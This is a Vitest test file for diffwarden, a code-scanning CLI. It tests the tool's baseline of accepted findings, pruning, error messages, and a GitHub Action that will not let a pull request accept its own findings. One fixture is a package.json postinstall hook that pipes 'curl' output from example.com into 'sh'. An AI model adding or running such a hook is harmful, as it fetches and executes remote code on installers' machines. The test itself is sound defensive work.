import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { loadActionBaseline } from '../../src/action/action-config.js';
import { analyze } from '../../src/analyze.js';
import { defaultConfig } from '../../src/config/defaults.js';
import { tempRepo } from '../helpers/repo.js';

const BIN = fileURLToPath(new URL('../../bin/diffwarden.js', import.meta.url));

function cli(cwd: string, args: string[]) {
  const result = spawnSync(process.execPath, [BIN, ...args], { cwd, encoding: 'utf8' });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

const json = (cwd: string, args: string[]) => JSON.parse(cli(cwd, [...args, '--format', 'json']).stdout) as { findings: { file: string; line: number; ruleId: string }[]; summary: { baselined: number } };

/** A project adopting diffwarden with two findings it lives with today. */
function adopting() {
  const repo = tempRepo();
  repo.commit('init', { 'src/a.ts': 'export function a() {\n  debugger;\n  return 1;\n}\n', 'src/b.ts': 'export const b = 2;\ndebugger;\n' });
  return repo;
}

describe('baseline', () => {
  it('records the current findings sorted, one per line, and audit then reports only new ones', () => {
    const repo = adopting();
    const made = cli(repo.dir, ['baseline']);
    expect(made).toMatchObject({ code: 0, stderr: '' });
    expect(made.stdout).toBe('diffwarden baseline: 2 findings in .diffwarden-baseline.json (2 added, 0 dropped). check and audit now report only findings not in it.\n');
    const text = readFileSync(join(repo.dir, '.diffwarden-baseline.json'), 'utf8');
    const lines = text.split('\n');
    expect(lines.slice(0, 3)).toEqual(['{', '  "version": 1,', '  "findings": [']);
    expect(lines[3]).toMatch(/^ {4}\{"fingerprint":"[0-9a-f]+","rule":"debugger-statement","file":"src\/a\.ts"\},$/);
    expect(lines[4]).toMatch(/^ {4}\{"fingerprint":"[0-9a-f]+","rule":"debugger-statement","file":"src\/b\.ts"\}$/);
    expect(lines.slice(5)).toEqual(['  ]', '}', '']);

    expect(cli(repo.dir, ['audit']).code).toBe(0);
    // Lines moved above a baselined finding: still accepted. A new one elsewhere: reported.
    writeFileSync(join(repo.dir, 'src/b.ts'), '// moved down\nexport const b = 2;\ndebugger;\n');
    writeFileSync(join(repo.dir, 'src/c.ts'), 'debugger;\n');
    const after = json(repo.dir, ['audit']);
    expect(after.findings.map((f) => `${f.file}:${f.line}`)).toEqual(['src/c.ts:1']);
    expect(after.summary.baselined).toBe(2);
    expect(cli(repo.dir, ['audit']).stdout).toContain('  2 findings already in the baseline, not shown.');
  });

  it('leaves out baselined findings in check but not a new copy of one, and --prune drops stale entries keeping reasons', () => {
    const repo = adopting();
    cli(repo.dir, ['baseline']);
    const file = join(repo.dir, '.diffwarden-baseline.json');
    const withReason = readFileSync(file, 'utf8').replace('"file":"src/a.ts"}', '"file":"src/a.ts","reason":"kept for the debugger tutorial"}');
    writeFileSync(file, withReason);
    repo.commit('baseline', { '.diffwarden-baseline.json': withReason });

    // A commit that edits around a baselined finding passes; a second copy of it is new and blocks.
    repo.stage({ 'src/b.ts': 'export const b = 3;\n  debugger;\n' });
    expect(cli(repo.dir, ['check', '--staged']).code).toBe(0);
    repo.stage({ 'src/b.ts': 'export const b = 2;\ndebugger;\nexport const c = 4;\ndebugger;\n' });
    const copied = json(repo.dir, ['check', '--staged']);
    expect(copied.findings.map((f) => `${f.file}:${f.line}`)).toEqual(['src/b.ts:4']);

    // The finding of b.ts is gone from the tree: --prune drops it, adds nothing, keeps a.ts's reason.
    writeFileSync(join(repo.dir, 'src/b.ts'), 'export const b = 3;\n');
    writeFileSync(join(repo.dir, 'src/new.ts'), 'debugger;\n');
    expect(cli(repo.dir, ['baseline', '--prune']).stdout).toBe('diffwarden baseline: 1 finding in .diffwarden-baseline.json (0 added, 1 dropped). check and audit now report only findings not in it.\n');
    const pruned = readFileSync(file, 'utf8');
    expect(pruned).toContain('"file":"src/a.ts","reason":"kept for the debugger tutorial"}');
    expect(pruned).not.toContain('src/b.ts');
    expect(pruned).not.toContain('src/new.ts');
  });

  it('refuses a broken baseline with the file and what to do, and a symlinked one', () => {
    const repo = adopting();
    writeFileSync(join(repo.dir, '.diffwarden-baseline.json'), '{ "findings": [ { "rule": "x" } ] }');
    expect(cli(repo.dir, ['audit'])).toMatchObject({ code: 2, stderr: 'diffwarden: .diffwarden-baseline.json: findings[0]: needs a "fingerprint" (hex, as diffwarden writes it).\n' });
    writeFileSync(join(repo.dir, '.diffwarden-baseline.json'), '[');
    expect(cli(repo.dir, ['audit']).stderr).toMatch(/^diffwarden: \.diffwarden-baseline\.json: invalid JSON \(.*\)\. Recreate it with `diffwarden baseline`\.\n$/);
    expect(cli(repo.dir, ['baseline', '--prune', '--output', 'none.json'])).toMatchObject({ code: 2, stderr: 'diffwarden: --prune: there is no baseline at none.json to prune. Run `diffwarden baseline` first.\n' });
  });

  it('in the Action comes from the base commit: a pull request cannot accept its own findings', async () => {
    const repo = adopting();
    cli(repo.dir, ['baseline']);
    const base = repo.commit('baseline', { '.diffwarden-baseline.json': readFileSync(join(repo.dir, '.diffwarden-baseline.json'), 'utf8') });
    repo.write('src/c.ts', 'debugger;\n');
    cli(repo.dir, ['baseline']); // the pull request re-baselines to hide its own debugger
    const head = repo.commit('pr', { 'src/c.ts': 'debugger;\n', '.diffwarden-baseline.json': readFileSync(join(repo.dir, '.diffwarden-baseline.json'), 'utf8') });
    const baseline = loadActionBaseline(repo.dir, base, defaultConfig());
    expect(baseline && baseline.source).toBe(`.diffwarden-baseline.json@${base.slice(0, 12)}`);
    const result = await analyze({ cwd: repo.dir, target: { kind: 'range', range: `${base}..${head}` }, config: defaultConfig(), baseline });
    expect(result.report.findings.map((f) => `${f.file}:${f.line}`)).toEqual(['src/c.ts:1']);
    expect(loadActionBaseline(repo.dir, base, { ...defaultConfig(), baseline: false })).toBe(false);
  });
});

describe('accepting a finding in a file without comments', () => {
  it('points to the baseline with the finding\'s fingerprint, and an entry with a reason accepts it', () => {
    const repo = tempRepo();
    repo.commit('init', { 'package.json': '{ "name": "x", "version": "1.0.0" }\n' });
    repo.stage({ 'package.json': '{ "name": "x", "version": "1.0.0", "scripts": { "postinstall": "curl -s https://example.com/i.sh | sh" } }\n' });
    const first = cli(repo.dir, ['check', '--staged']);
    const hint = /package\.json cannot hold a comment: to accept a finding there, add its fingerprint with a reason to the baseline, e\.g\. (\{.*\}) in \.diffwarden-baseline\.json\./.exec(first.stdout);
    expect(hint).not.toBeNull();
    const entry = JSON.parse(hint![1]!.replace('"reason":"..."', '"reason":"our installer, reviewed"')) as { fingerprint: string; rule: string };
    writeFileSync(join(repo.dir, '.diffwarden-baseline.json'), JSON.stringify({ version: 1, findings: [entry] }));
    const second = json(repo.dir, ['check', '--staged']);
    expect(second.findings.filter((f) => f.ruleId === entry.rule)).toEqual([]);
    expect(second.summary.baselined).toBe(1);
  });
});
